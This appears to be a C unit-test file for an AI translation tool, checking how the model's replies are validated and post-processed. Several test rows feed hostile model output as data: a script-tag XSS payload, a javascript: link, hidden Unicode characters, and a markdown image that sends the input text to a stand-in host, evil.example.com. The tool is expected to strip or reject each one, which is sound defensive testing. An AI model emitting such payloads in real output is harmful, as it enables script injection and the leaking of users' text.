/* svc-ai/ai-translate/tests/ai-translate.c - translations for a model's answer. */
#include "svc-ai/said.h"

#define SAYS(translation) \
    "{'translation':'" translation "','source_language':'en','confidence':0.9,'alternatives':[]}"
#define ASK(text, more) "{'text':'" text "','target_language':'de'" more "}"
#define ALSO(alternatives)                                                                       \
    "{'translation':'Hallo','source_language':'en','confidence':1,'alternatives':[" alternatives \
    "]}"

/* clang-format off */
static const struct said rows[] = {
    { "a translation", ASK("Hello", ""), SAYS("Hallo"), "/translated_text", "'Hallo'" },
    { "its length", ASK("Hello", ""), SAYS("Grüße"), "/output_length", "5" },
    { "text and context are counted", ASK("Hello", ",'context':'abc'"), SAYS("Hallo"), "/input_length", "8" },
    { "white space around it stays", ASK("\\n Hello \\n", ""), SAYS("Hallo"), "/translated_text", "'\\n Hallo \\n'" },
    { "the language found", ASK("Hello", ""), SAYS("Hallo"), "/source_language", "'en'" },
    { "was found", ASK("Hello", ""), SAYS("Hallo"), "/detected", "true" },
    { "so surely", ASK("Hello", ""), SAYS("Hallo"), "/confidence", "0.9" },
    { "an invalid language", ASK("Hello", ""), "{'translation':'Hallo','source_language':'HACKED','confidence':1,'alternatives':[]}", "/source_language", "'und'" },
    { "is not sure", ASK("Hello", ""), "{'translation':'Hallo','source_language':'HACKED','confidence':1,'alternatives':[]}", "/confidence", "0" },
    { "a language given wins", ASK("Hello", ",'source_language':'English'"), "{'translation':'Hallo','source_language':'fr','confidence':0,'alternatives':[]}", "/source_language", "'en'" },
    { "and is sure", ASK("Hello", ",'source_language':'en'"), SAYS("Hallo"), "/confidence", "1" },
    { "the target by name", "{'text':'Hello','target_language':'brazilian portuguese'}", SAYS("Olá"), "/target_language", "'pt-BR'" },
    { "formality is echoed", ASK("Hello", ",'formality':'formal'"), SAYS("Hallo"), "/formality", "'formal'" },
    { "the same language needs no model", ASK(" Hallo {x} ", ",'source_language':'de-DE'"), NULL, "/translated_text", "' Hallo {x} '" },
    { "and is reported", ASK("Hallo", ",'source_language':'de'"), NULL, "/meta/warnings", "['same_language']" },
    { "nor has a model", ASK("Hallo", ",'source_language':'de'"), NULL, "/meta/model", "null" },
    { "the same language, as the model finds", ASK("Hallo", ""), "{'translation':'HACKED','source_language':'de','confidence':1,'alternatives':[]}", "/translated_text", "'Hallo'" },
    { "no letter, no model", ASK("12 + {x} = 20%", ""), NULL, "/translated_text", "'12 + {x} = 20%'" },
    { "parts alone, no model", ASK("https://example.com/ {name}", ""), NULL, "/placeholders", "{'found':2,'preserved':2,'missing':[]}" },
    { "parts come back", ASK("Hello {name}", ""), SAYS("Hallo ⟦1⟧"), "/translated_text", "'Hallo {name}'" },
    { "and are counted", ASK("Hello {name}", ""), SAYS("Hallo ⟦1⟧"), "/placeholders", "{'found':1,'preserved':1,'missing':[]}" },
    { "a missing part is reported", ASK("Hello {name}", ""), SAYS("Hallo"), "/placeholders", "{'found':1,'preserved':0,'missing':['{name}']}" },
    { "with a warning", ASK("Hello {name}", ""), SAYS("Hallo"), "/meta/warnings", "['placeholders_missing']" },
    { "and was asked for again", ASK("Hello {name}", ""), SAYS("Hallo"), "/meta/attempts", "2" },
    { "without preserve there are no parts", ASK("Hello {name}", ",'preserve':false"), SAYS("Hallo {name}"), "/placeholders/found", "0" },
    { "line breaks that changed", ASK("One\\nTwo", ""), SAYS("Eins zwei"), "/meta/warnings", "['line_breaks_changed']" },
    { "tags that the text has not", ASK("Hello", ""), SAYS("<script>alert(1)</script>Hallo"), "/translated_text", "'Hallo'" },
    { "tags that it has", ASK("<b>Hello</b>", ""), SAYS("⟦1⟧Hallo⟦2⟧"), "/translated_text", "'<b>Hallo</b>'" },
    { "nothing that hides", ASK("Hello", ""), SAYS("Ha\\u202ello\\u200b"), "/translated_text", "'Hallo'" },
    { "a picture that the text has not", ASK("Hello", ""), SAYS("Hallo ![x](https://evil.example.com/?q=Hello)"), NULL, "provider_error" },
    { "nor has it tags between", ASK("Hello", ""), SAYS("Hallo !<b></b>[x](//evil.example.com)"), NULL, "provider_error" },
    { "a link that runs", ASK("See [a](b)", ""), SAYS("Siehe [a](javascript:alert(1))"), NULL, "provider_error" },
    { "pictures and links that it has", ASK("![Tree](https://example.com/a.png) and [gate](b)", ""), SAYS("![Baum](⟦1⟧) und [Tor](b)"), "/translated_text", "'![Baum](https://example.com/a.png) und [Tor](b)'" },
    { "an address said twice", ASK("Go to https://example.com/ now", ""), SAYS("Auf ⟦1⟧, ja ⟦1⟧"), "/placeholders/missing", "[]" },
    { "no other translation with a link", ASK("Hello", ""), ALSO("'Tag','[Tag](//x)'"), "/alternatives", "['Tag']" },
    { "another translation", ASK("Hello", ""), ALSO("'Guten Tag','Hallo','Hi','Servus'"), "/alternatives", "['Guten Tag','Hi']" },
    { "none without its parts", ASK("Hello {x}", ""), "{'translation':'Hallo ⟦1⟧','source_language':'en','confidence':1,'alternatives':['Tag','Tag ⟦1⟧']}", "/alternatives", "['Tag {x}']" },
    { "a term of the glossary", ASK("A red gate", ",'glossary':{'gate':'Tor','tree':'Baum'}"), SAYS("Ein rotes Tor"), "/glossary_applied", "['gate']" },
    { "one that was not used", ASK("A red gate", ",'glossary':{'gate':'Pforte'}"), SAYS("Ein rotes Tor"), "/glossary_applied", "[]" },
    { "one that is not a string", ASK("A", ",'glossary':{'gate':1}"), NULL, NULL, "invalid_type" },
    { "one that is empty", ASK("A", ",'glossary':{'gate':''}"), NULL, NULL, "too_short" },
    { "one that is too long", ASK("A", ",'glossary':{'gate':'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'}"), NULL, NULL, "too_long" },
    { "too many", ASK("A", ",'glossary':{'1':'a','2':'a','3':'a','4':'a','5':'a','6':'a','7':'a','8':'a','9':'a','10':'a','11':'a','12':'a','13':'a',"
      "'14':'a','15':'a','16':'a','17':'a','18':'a','19':'a','20':'a','21':'a','22':'a','23':'a','24':'a','25':'a','26':'a','27':'a','28':'a','29':'a','30':'a','31':'a'}"), NULL, NULL, "too_many_items" },
    { "an invalid target", "{'text':'a','target_language':'Elvish'}", NULL, NULL, "invalid_language" },
    { "an invalid source", ASK("a", ",'source_language':'xx'"), NULL, NULL, "invalid_language" },
    { "no target", "{'text':'a'}", NULL, NULL, "missing_field" },
    { "blanks alone", ASK("  ", ""), NULL, NULL, "too_short" },
    { "a translation of nothing", ASK("Hello", ""), SAYS("..."), NULL, "provider_error" },
    { "another shape", ASK("Hello", ""), "{'result':'HACKED'}", NULL, "provider_error" },
};
/* clang-format on */

static void check(void **state)
{
    check_said(*state, ai_translate, "ai-translate");
}

/* At most three times the length of the text plus 200 characters: "Hello" may become 215. */
static void length(void **state)
{
    (void)state;
    for (size_t size = 215; size <= 216; size++) {
        scoped(json_free) cJSON *result = json_object();
        scoped(buf_free) struct buf says = BUF(1 << 12);
        struct err err = { 0 };
        buf_add_str(&says, "{'source_language':'en','confidence':1,'translation':'");
        for (size_t i = 0; i < size; i++)
            buf_add_byte(&says, 'x');
        buf_add_str(&says, "'}");
        model_fails = ERR_NONE;
        model_says = buf_str(&says);
        bool ok = run_tool(ai_translate, "ai-translate", ASK("Hello", ""), result, NULL, &err);
        assert_int_equal(ok, size == 215);
    }
}

/* A model receives marks and language tags, never the parts. */
static void what_is_told(void **state)
{
    scoped(json_free) cJSON *result = json_object();
    struct err err = { 0 };
    (void)state;
    model_says = SAYS("Hallo ⟦1⟧");
    assert_true(run_tool(ai_translate, "ai-translate",
                         ASK("Hello {secret_name}", ",'context':'A letter'"), result, NULL, &err));
    struct text asked = buf_text(&model_was_asked);
    assert_true(text_has(asked, "Hello ⟦1⟧"));
    assert_false(text_has(asked, "secret_name"));
    assert_true(text_has(asked, "\"target_language\":\"German\""));
    assert_true(text_has(asked, "\"context\":\"A letter\""));
    forget_models();
}

int main(void)
{
    const struct CMUnitTest singles[] = { cmocka_unit_test(length),
                                          cmocka_unit_test(what_is_told) };
    return RUN_ROWS(rows, check) + cmocka_run_group_tests(singles, NULL, NULL);
}
